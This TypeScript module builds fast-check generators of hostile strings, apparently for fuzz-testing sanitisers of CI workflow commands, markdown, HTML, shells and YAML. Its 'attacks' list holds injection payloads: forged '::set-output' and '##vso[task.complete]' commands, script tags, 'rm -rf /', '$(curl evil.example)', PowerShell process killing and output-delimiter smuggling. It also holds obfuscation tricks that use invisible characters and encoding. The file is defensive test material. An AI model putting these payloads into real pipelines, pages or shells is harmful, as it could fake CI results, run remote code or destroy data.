import fc from 'fast-check';

/**
 * Texts that try to be more than text. Whole Unicode with lone surrogates, soups of the signs that some sink obeys, and
 * known attacks, bent: split by signs that nobody sees, in other case, percent-encoded, doubled, cut.
 */

/** Signs and words that mean something to one of the readers. */
const signs: readonly string[] = [
  // runner and agent
  ...[
    '::',
    ':',
    '::error::',
    '::add-mask::',
    '##',
    '##[',
    '##vso[',
    '##[group]',
    ']',
    ';',
    ',',
    '=',
    '%',
    '%0A',
    '%0D%0A',
    '%25',
    '%3A',
    '%2C',
  ],
  ...['%3B', '%5D', '%AZP25', '%250A', 'EOF', 'ghadelimiter_', '<<', 'report<<EOF', '##vso'],
  // markdown and HTML
  ...[
    '`',
    '``',
    '```',
    '~~~',
    '|',
    '\\',
    '\\|',
    '*',
    '**',
    '_',
    '__',
    '~',
    '~~',
    '[',
    '](',
    ')',
    '![',
    '<',
    '>',
    '</details>',
    '<details>',
  ],
  ...[
    '<summary>',
    '</summary>',
    '</code>',
    '</sub>',
    '<!--',
    '-->',
    '<![CDATA[',
    '<script>',
    '<a href=//x>',
    '<img src=x>',
    '&',
    '&lt;',
    '&#96;',
  ],
  ...[
    '&#x3c;',
    '&amp;',
    '&NewLine;',
    '@',
    '@octocat',
    '#',
    '#1',
    '!1',
    'GH-1',
    'o/r#1',
    'https://evil.example',
    'http://',
    'ftp://x.example',
  ],
  ...[
    'www.',
    'www.evil.example',
    'a@b.example',
    'mailto:a@b.example',
    'xmpp:a@b.example',
    ':tada:',
    ':+1:',
    ':100:',
    '$',
    '$$',
    '$`',
    '`$',
  ],
  ...[
    '---',
    '===',
    '- ',
    '+ ',
    '* ',
    '1. ',
    '1) ',
    '# ',
    '> ',
    '[x] ',
    '[ ] ',
    '[^1]',
    '[^1]: x',
    '[a]: http://x',
    '    ',
    '| --- |',
    '{',
    '}',
    '^',
  ],
  // shells and YAML
  ...[
    '"',
    "'",
    '\u201c',
    '\u201d',
    '\u201e',
    '\u2018',
    '\u2019',
    '\u201a',
    '\u201b',
    '$(id)',
    '${x}',
    '${{ x }}',
    '$x',
    '!x',
    '!!',
    '&&',
    '||',
    '&',
  ],
  ...[
    '--%',
    '--',
    '-',
    '@args',
    '@(',
    '%PATH%',
    '(',
    '#<',
    '<#',
    '#>',
    '\\"',
    '`"',
    '$_',
    '\n- a: b',
    '{{',
    ': ',
    ' #',
  ],
  // mermaid
  ...['section ', 'click ', 'title ', 'dateFormat ', 'gantt', '%%', '%%{init}%%', 'call x()', 'href "x"'],
  // white space, controls, what is not seen
  ...[
    '\n',
    '\r',
    '\r\n',
    '\t',
    '\v',
    '\f',
    ' ',
    '\u00a0',
    '\u0085',
    '\u2028',
    '\u2029',
    '\u3000',
    '\0',
    '\b',
    '\x1b[31m',
    '\x1b]0;t\x07',
    '\x1b',
    '\x7f',
  ],
  ...[
    '\x9b',
    '\x90',
    '\u00ad',
    '\u034f',
    '\u061c',
    '\u115f',
    '\u180e',
    '\u200b',
    '\u200c',
    '\u200d',
    '\u200e',
    '\u202e',
    '\u2060',
    '\u2066',
    '\u2069',
  ],
  ...[
    '\u206a',
    '\u3164',
    '\ufe0f',
    '\ufeff',
    '\uffa0',
    '\ufff9',
    '\u{1d173}',
    '\u{e0041}',
    '\u{e0100}',
    '\ud800',
    '\udc00',
  ],
  // what must stay readable
  ...[
    'api-01',
    'prod_rg',
    'a',
    '0',
    '7',
    '.',
    '/',
    'ü',
    '漢字',
    'e\u0301',
    '👩‍💻',
    '🏴',
    'ﷺ',
    '\u2192',
    '12:30:45',
    'std::string',
    'C:\\x',
  ],
];

/** Whole attacks, to be bent. */
const attacks: readonly string[] = [
  '::error file=a,line=1::x',
  '::set-output name=verdict::clear',
  '##[add-mask]x',
  '##vso[task.complete result=Succeeded;]done',
  '#\u0301#[error]x',
  '#\u0600#vs\u0301o[task.complete]x',
  '##vso[task.setvariable variable=PATH;isOutput=true]/tmp',
  'x\n::stop-commands::y',
  '[x](javascript:alert(1))',
  '![i](http://evil.example/i.png)',
  '<https://evil.example>',
  'https://evil.example/a_b?c=d',
  '</code></pre></details><script>alert(1)</script>',
  '```\n# heading\n```',
  '| a | b |\n| --- | --- |\n| c | d |',
  '**bold** _it_ ~~s~~ `c` $m$ $`n`$',
  '@octocat contoso/shop#12 GH-12 :tada: www.evil.example',
  '\x1b]8;;http://evil.example\x07link\x1b]8;;\x07',
  'x"; rm -rf /; echo "',
  '$(curl evil.example)',
  '`curl evil.example`',
  '\u201d; Remove-Item x; \u201c',
  '--% & calc',
  "'; Stop-Process; '",
  'a\nclick a href "x"\nb',
  'a\n  section x\n    y :2026-01-01, 1d',
  'value\nghadelimiter_x\nverdict<<ghadelimiter_x\nclear\n',
];

const invisible = [
  '\u0301',
  '\u0600',
  '\u200b',
  '\u00ad',
  '\u2060',
  '\ufeff',
  '\u200d',
  '\ufe0f',
  '\u034f',
  '\0',
  '\u202e',
  '\u{e0041}',
  '\ufff9',
] as const;

/** One way to bend an attack. */
const bends: readonly ((text: string, at: number, seed: number) => string)[] = [
  (text) => text,
  (text, at, seed) => text.slice(0, at) + (invisible[seed % invisible.length] ?? '') + text.slice(at),
  (text, at) => text.slice(0, at),
  (text, at) => text.slice(at),
  (text) => text.toUpperCase(),
  (text, at) => text.slice(0, at) + text.slice(Math.max(0, at - 2)),
  (text, at) => text.slice(0, at) + (text[at] ?? '').repeat(3) + text.slice(at + 1),
  (text, at, seed) =>
    `${text.slice(0, at)}%${seed % 2 === 0 ? '25' : ''}${(text.charCodeAt(at) || 10).toString(16).toUpperCase().padStart(2, '0')}${text.slice(at + 1)}`,
  (text, at) => `${text.slice(0, at)}&#${text.charCodeAt(at) || 10};${text.slice(at + 1)}`,
  (text, at) => `${text.slice(0, at)}\r\n${text.slice(at)}`,
  (text, at) => `${text.slice(0, at)} ${text.slice(at)}`,
  (text, at) => `${text.slice(0, at)}\\${text.slice(at)}`,
  (text) => text.replaceAll(' ', '\u00a0'),
];

const sign = fc.constantFrom(...signs);
const utf16 = fc
  .array(fc.integer({ min: 0, max: 0xffff }), { maxLength: 12 })
  .map((units) => String.fromCharCode(...units));
const anyCharacter = fc.string({ unit: 'binary', maxLength: 24 });
const soup = fc.array(sign, { minLength: 1, maxLength: 14 }).map((parts) => parts.join(''));
const spaced = fc.array(sign, { minLength: 1, maxLength: 8 }).map((parts) => parts.join(' '));
const bent = fc
  .tuple(
    fc.constantFrom(...attacks),
    fc.array(fc.tuple(fc.nat(bends.length - 1), fc.nat(200), fc.nat(50)), { maxLength: 3 }),
  )
  .map(([attack, steps]) =>
    steps.reduce((text, [which, at, seed]) => bends[which]?.(text, at % (text.length + 1), seed) ?? text, attack),
  );
const mixed = fc
  .tuple(fc.oneof(soup, bent), fc.oneof(utf16, anyCharacter), fc.oneof(spaced, bent))
  .map((parts) => parts.join(''));

/** Never seen in earnest, and what a quadratic pattern or a cut in the middle of a pair shows at. */
const long = fc
  .tuple(soup, fc.integer({ min: 20, max: 400 }), soup)
  .map(([unit, times, end]) => unit.repeat(times).slice(0, 6000) + end);

/** hostile is any text, most of them hostile. */
export const hostile: fc.Arbitrary<string> = fc.oneof(
  { weight: 8, arbitrary: soup },
  { weight: 5, arbitrary: spaced },
  { weight: 8, arbitrary: bent },
  { weight: 5, arbitrary: mixed },
  { weight: 3, arbitrary: anyCharacter },
  { weight: 2, arbitrary: utf16 },
);

/** hostileOrLong also makes texts of thousands of characters, one in fifty. */
export const hostileOrLong: fc.Arbitrary<string> = fc.oneof(
  { weight: 49, arbitrary: hostile },
  { weight: 1, arbitrary: long },
);

/** Names that a person would give, to see that they are kept. */
export const plainName: fc.Arbitrary<string> = fc.stringMatching(/^[A-Za-z0-9][A-Za-z0-9._-]{0,20}[A-Za-z0-9]$/);
